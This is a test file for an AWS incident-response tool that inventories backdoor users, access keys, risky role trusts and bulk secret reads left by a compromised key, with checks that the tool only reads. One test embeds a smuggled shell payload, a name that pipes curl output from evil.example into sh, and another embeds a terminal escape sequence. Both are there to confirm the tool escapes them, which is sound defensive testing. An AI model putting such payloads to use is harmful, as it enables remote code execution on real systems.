import { GetRoleCommand, GetUserCommand, IAMClient, NoSuchEntityException } from '@aws-sdk/client-iam';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import type { ActivitySummary, RiskyEvent } from '../../../../src/activity/activity-summary.js';
import { inventoryLines } from '../../../../src/message/leftovers.js';
import { leftoversIn } from '../../../../src/steps/inventory/leftovers.js';
import { takeInventory } from '../../../../src/steps/inventory/take-inventory.js';
import { foreignPrincipals } from '../../../../src/steps/inventory/trust.js';

const iamMock = mockClient(IAMClient);
const iam = new IAMClient({ region: 'us-east-1' });

function risky(eventName: string, resources: RiskyEvent['resources'], errorCode: string | null = null): RiskyEvent {
  return {
    eventName,
    eventTime: '2026-11-27T03:00:00Z',
    awsRegion: 'us-east-1',
    eventId: eventName,
    category: 'persistence',
    errorCode,
    resources,
  };
}

function summary(riskyEvents: RiskyEvent[]): ActivitySummary {
  return { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', userName: 'alice', riskyEvents } as unknown as ActivitySummary;
}

beforeEach(() => {
  iamMock.reset();
});

describe('leftoversIn', () => {
  it('takes what succeeded, once, and gives a key made without a user name to the key’s own user', () => {
    const found = leftoversIn(
      [
        summary([
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'backdoor' }]),
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'backdoor' }]),
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'refused' }], 'AccessDenied'),
          risky('CreateAccessKey', [{ type: 'AWS::IAM::AccessKey', name: 'AKIAEXAMPLEEXAMPLE22' }]),
          risky('UpdateAssumeRolePolicy', [{ type: 'AWS::IAM::Role', name: 'arn:aws:iam::1:role/path/ops' }]),
        ]),
      ],
      null,
    );

    expect(found).toEqual([
      { kind: 'user', name: 'backdoor', owner: null, region: null },
      { kind: 'access-key', name: 'AKIAEXAMPLEEXAMPLE22', owner: 'alice', region: null },
      { kind: 'role-trust', name: 'ops', owner: null, region: null },
    ]);
  });
});

describe('foreignPrincipals', () => {
  it('names the accounts outside the trusted ones, and anyone', () => {
    const policy = encodeURIComponent(
      JSON.stringify({
        Statement: [
          { Effect: 'Allow', Principal: { AWS: ['arn:aws:iam::111122223333:root', '123456789012'] } },
          { Effect: 'Allow', Principal: '*' },
          { Effect: 'Deny', Principal: { AWS: '444455556666' } },
        ],
      }),
    );

    expect(foreignPrincipals(policy, { accounts: new Set(['123456789012']), scope: 'this-account' })).toEqual([
      '*',
      '111122223333',
    ]);
  });

  it('names the identity providers a role trusts, which belong to no account', () => {
    const policy = encodeURIComponent(
      JSON.stringify({
        Statement: [
          {
            Effect: 'Allow',
            Principal: { Federated: 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com' },
            Action: 'sts:AssumeRoleWithWebIdentity',
          },
          { Effect: 'Allow', Principal: { Federated: ['accounts.google.com'], Service: 'ec2.amazonaws.com' } },
        ],
      }),
    );

    expect(foreignPrincipals(policy, { accounts: new Set(['123456789012']), scope: 'this-account' })).toEqual([
      'federated accounts.google.com',
      'federated token.actions.githubusercontent.com',
    ]);
  });
});

describe('takeInventory', () => {
  const deps = {
    iam,
    ec2: () => ({ send: async () => ({}) }) as never,
    lambda: () => ({ send: async () => ({}) }) as never,
    accountId: '123456789012',
  };

  it('checks each thing now, says what is gone, and only reads', async () => {
    iamMock.on(GetUserCommand, { UserName: 'backdoor' }).resolves({});
    iamMock
      .on(GetUserCommand, { UserName: 'removed' })
      .rejects(new NoSuchEntityException({ message: 'gone', $metadata: {} }));
    iamMock.on(GetRoleCommand).resolves({
      Role: {
        RoleName: 'ops',
        Arn: 'arn:aws:iam::123456789012:role/ops',
        Path: '/',
        RoleId: 'x',
        CreateDate: new Date(),
        AssumeRolePolicyDocument: encodeURIComponent(
          JSON.stringify({ Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::111122223333:root' } }] }),
        ),
      },
    });

    const inventory = await takeInventory(
      deps,
      [
        summary([
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'backdoor' }]),
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'removed' }]),
          risky('CreateRole', [{ type: 'AWS::IAM::Role', name: 'ops' }]),
        ]),
      ],
      'alice',
    );

    expect(inventory.items.map((item) => [item.name, item.state, item.command])).toEqual([
      ['backdoor', 'exists', 'aws iam delete-user --user-name backdoor'],
      ['removed', 'gone', ''],
      ['ops', 'exists', 'aws iam delete-role --role-name ops'],
    ]);
    expect(inventory.items[2]).toMatchObject({ foreignTrust: true, note: 'trusts 111122223333, outside this account' });
    const sent = iamMock.calls().map((call) => call.args[0].constructor.name);
    expect(sent.every((name) => /^(Get|List)/.test(name))).toBe(true);
  });

  it('quotes every name in a command to copy, so that a name an attacker wrote stays one argument', async () => {
    const name = '/x;curl -s https://evil.example/p|sh;#';
    const inventory = await takeInventory(
      deps,
      [
        summary([
          { ...risky('GetParameters', [{ type: 'AWS::SSM::Parameter', name }]), category: 'credential-access' },
        ]),
      ],
      'alice',
    );

    expect(inventory.items.map((item) => item.command)).toEqual([
      `aws ssm put-parameter --region us-east-1 --name '${name}' --overwrite --value <new value>`,
    ]);
  });

  it('lists secrets and parameters read in bulk, with the calls to look at, once per call and region', async () => {
    const bulk = (eventName: string, awsRegion: string) => ({
      ...risky(eventName, []),
      category: 'credential-access' as const,
      awsRegion,
    });
    const inventory = await takeInventory(
      deps,
      [
        summary([
          bulk('BatchGetSecretValue', 'us-east-1'),
          bulk('BatchGetSecretValue', 'us-east-1'),
          bulk('GetParametersByPath', 'eu-west-1'),
        ]),
      ],
      'alice',
    );

    expect(inventory.items.map((item) => [item.kind, item.name, item.region, item.state, item.command])).toEqual([
      [
        'bulk-read',
        'BatchGetSecretValue',
        'us-east-1',
        'to-rotate',
        'aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventName,AttributeValue=BatchGetSecretValue',
      ],
      [
        'bulk-read',
        'GetParametersByPath',
        'eu-west-1',
        'to-rotate',
        'aws cloudtrail lookup-events --region eu-west-1 --lookup-attributes AttributeKey=EventName,AttributeValue=GetParametersByPath',
      ],
    ]);
    expect(inventoryLines(inventory).join('\n')).toMatch(
      /2 secret\(s\) or parameter\(s\) read \(or calls reading them in bulk\), to rotate/,
    );
  });

  it('shows names from CloudTrail inert in the message', async () => {
    iamMock.on(GetUserCommand).resolves({});

    const inventory = await takeInventory(
      deps,
      [summary([risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'evil\u001b[2J' }])])],
      null,
    );

    expect(inventoryLines(inventory).join('\n')).toContain('evil\\x1B[2J');
    expect(inventoryLines(inventory).join('\n')).not.toContain('\u001b');
  });
});
